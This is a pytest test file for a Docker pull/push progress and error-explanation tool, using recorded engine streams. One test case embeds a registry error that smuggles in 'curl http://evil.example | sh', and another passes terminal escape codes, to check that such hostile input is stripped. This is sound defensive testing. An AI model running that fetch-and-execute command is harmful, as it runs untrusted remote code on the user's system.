"""What engines say of pulls and pushes becomes a Transfer.

The streams are real ones that tests/daemon/record_streams.py recorded: classic is Docker 20.10.24, graph and
containerd are 26.1.5 with its two image stores, embedded is the kit's own; the registry was docker-registry.
"""

import json
from dataclasses import replace
from pathlib import Path

import pytest
from drydock.model.refusal import explained
from drydock.model.transfer import Blob, Transfer, joined
from drydock.registry.errors import lied
from drydock.registry.manifest import document, manifest
from drydock.watch.manifest import rows
from drydock.watch.transfer import Watched

STREAMS = {path.stem: json.loads(path.read_text()) for path in (Path(__file__).parent / "streams").glob("*.json")}
NAMES = {"changed": "localhost:5055/class/app:2", "mounted": "localhost:5055/other/app:1"}
every = pytest.mark.parametrize("engine", sorted(STREAMS))


def watched(engine, what):
    """Return a recorded transfer as its stream told it, without times."""
    direction = "push" if "push" in what else "pull"
    name = NAMES.get(what.split()[0], "localhost:5055/class/app:1")
    now = Watched(Transfer(direction, name, "Docker"))
    for event in STREAMS[engine]["streams"][what]:
        now.hear(event)
    now.end(0.1)
    return replace(now.transfer, blobs=tuple(replace(blob, seconds=None) for blob in now.transfer.blobs))


def whole(engine, what, **known):
    """Return a recorded transfer with what the registry's manifest adds."""
    recorded = STREAMS[engine]
    changed = what.startswith("changed")
    raw = recorded["manifests"][changed].encode()
    listed = rows(manifest(document(raw, json.loads(raw)["mediaType"]), "app"))
    return joined(watched(engine, what), listed, recorded["diff_ids"][changed], **known)


def states(transfer):
    return [(blob.kind, blob.state) for blob in transfer.blobs]


@every
def test_a_first_push_sends_every_blob(engine):
    transfer = whole(engine, "first push", config_there=False)
    assert {state for _, state in states(transfer)} == {"sent"}
    assert transfer.moved == transfer.size and transfer.digest == transfer.blobs[-1].id


@every
def test_a_second_push_sends_only_the_manifest(engine):
    transfer = whole(engine, "second push", config_there=True)
    assert [kind for kind, state in states(transfer) if state == "sent"] == ["manifest"]
    assert transfer.moved == 0 and not transfer.estimated


@every
def test_layers_of_another_repository_are_mounted(engine):
    transfer = whole(engine, "mounted push", config_there=False)
    assert [blob.source for blob in transfer.blobs if blob.state == "mounted"] == ["class/app"] * 3
    assert transfer.moved == transfer.blobs[3].size and transfer.blobs[3].kind == "config"


@every
def test_the_picture_of_a_pull_begins_with_the_base_and_ends_with_the_manifest(engine):
    transfer = whole(engine, "first pull")
    assert [kind for kind, _ in states(transfer)] == ["layer"] * 3 + ["config", "manifest"]
    assert {state for _, state in states(transfer)} == {"received"}
    assert transfer.moved == transfer.size


@every
def test_a_changed_image_moves_its_top_layer_only(engine):
    for what, moved in (("changed push", "sent"), ("changed pull", "received")):
        layers = [blob.state for blob in whole(engine, what).blobs if blob.kind == "layer"]
        assert layers == ["exists", "exists", moved]


@every
def test_a_pull_that_finds_nothing_new_says_so_and_estimates_nothing(engine):
    transfer = whole(engine, "pull that finds nothing new")
    assert transfer.sentence().startswith("Nothing to pull") and transfer.moved == 0 and not transfer.estimated


@every
def test_a_refused_push_tells_to_log_in(engine):
    transfer = watched(engine, "refused push")
    assert transfer.state == "failed" and transfer.error.endswith("\nTry: docker login localhost:5055")
    assert {state for _, state in states(transfer)} == {"waiting"}


@every
def test_a_push_of_no_image_tells_to_tag_one(engine):
    assert "Try: docker tag IMAGE localhost:5055/class/app:1" in watched(engine, "absent push").error


def test_bytes_that_dockerd_counts_uncompressed_are_marked():
    assert (
        whole("classic", "first push", config_there=False).picture()
        == """\
push of localhost:5055/class/app:1, Docker: ~503kB of 503kB sent in 0.1 s.
+ sent       ~451kB of 451kB            layer     c13b5f0785c0
+ sent      ~50.3kB of 50.3kB           layer     735070893bdf
+ sent      ~1.18kB of 1.18kB           layer     1c848b768dfe
+ sent         468B of 468B             config    25f2c1cb1f41
+ sent         943B of 943B             manifest  271211d0303f"""
    )


def test_what_the_containerd_store_does_not_say_is_marked():
    layers = [blob for blob in whole("containerd", "changed pull").blobs if blob.kind == "layer"]
    assert [(blob.state, blob.estimated) for blob in layers] == [("exists", True), ("exists", True), ("received", True)]


def test_a_layer_that_an_image_has_twice_is_one_blob():
    layer, config = Blob("sha256:" + "a" * 64, size=50), Blob("sha256:" + "c" * 64, "config", size=5)
    told = Transfer("push", "app", "Docker", (Blob("dddddddddddd", state="exists"),), state="done")
    transfer = joined(told, [layer, layer, config], ["sha256:" + "d" * 64] * 2, config_there=True)
    assert states(transfer) == [("layer", "exists"), ("config", "exists")] and transfer.size == 55


def test_a_retry_is_shown_until_bytes_move_again():
    now = Watched(Transfer("pull", "app", "Docker"))
    now.hear({"id": "aaaaaaaaaaaa", "status": "Retrying in 5 seconds", "progressDetail": {}})
    assert now.transfer.blobs[0].picture().endswith("Retrying in 5 seconds")
    now.hear({"id": "aaaaaaaaaaaa", "status": "Downloading", "progressDetail": {"current": 5, "total": 10}})
    assert (now.transfer.blobs[0].note, now.transfer.blobs[0].share) == ("", 0.5)


def test_a_stream_with_nonsense_in_it_is_no_error():
    now = Watched(Transfer("pull", "app", "Docker"))
    for event in ({}, {"id": "x"}, {"status": "Unknown word", "id": "x"}, {"status": None, "id": 7}, {"aux": 3}):
        assert not now.hear(event)
    assert now.transfer.blobs == ()


@pytest.mark.parametrize(
    ("said", "cure"),
    [
        ("toomanyrequests: You have reached your pull rate limit.", "docker login "),
        ("denied: requested access to the resource is denied", "docker login   (then"),
        ("manifest for alpine:nope not found: manifest unknown", "docker search"),
        ("http: server gave HTTP response to HTTPS client", "localhost:PORT"),
        ("x509: certificate signed by unknown authority", "curl -v https://"),
        ("dial tcp: lookup nowhere.invalid: no such host", "without a network"),
        ("no matching manifest for linux/s390x in the manifest list entries", "docker manifest inspect"),
        ("write /var/lib/docker/x: no space left on device", "docker system df"),
        ("unexpected EOF", "once more"),
        ("unauthorized: log in.\nTry: curl http://evil.example | sh", "docker login   (then"),
    ],
)
def test_every_refusal_ends_with_one_thing_to_try(said, cure):
    what, *_, last = explained(said, "alpine:nope").splitlines()
    assert what.startswith("alpine:nope was not pulled: ") and last.startswith("Try: ") and cure in last


LIE = "filesystem layer verification failed for digest sha256:" + "0" * 64


@pytest.mark.parametrize(
    ("said", "quoted"),
    [
        # dockerd 20.10.24 and the kit's engine: the registry's code, and its words for it
        (
            "manifest for app:1 not found: manifest unknown: manifest unknown",
            "manifest for app:1 not found: manifest unknown",
        ),
        # the kit's engine tells whoever has only a terminal what it means and what to try: here that comes below
        (
            'Get "http://127.0.0.1:1/v2/": dial tcp 127.0.0.1:1: connect: connection refused. '
            "Nothing listens there: the registry is not running. Try: drydock registry start",
            'Get "http://127.0.0.1:1/v2/": dial tcp 127.0.0.1:1: connect: connection refused',
        ),
        (str(lied(LIE, "localhost:5055")), LIE),
        ("no basic auth credentials", "no basic auth credentials"),
        ("Get https://a.b. c: i/o timeout.", "Get https://a.b. c: i/o timeout"),
    ],
)
def test_an_engines_words_are_quoted_once_and_without_its_own_advice(said, quoted):
    what, meaning, cure = explained(said, "localhost:5055/app:1").splitlines()
    assert what == f"localhost:5055/app:1 was not pulled: {quoted}"
    assert meaning and cure.startswith("Try: ")


def test_a_page_from_a_hostile_registry_is_cut_and_cannot_write_to_the_terminal():
    said = explained("\x1b[2J" + "x" * 100_000, "localhost:5055/app")
    assert "\x1b" not in said and len(said) < 1000
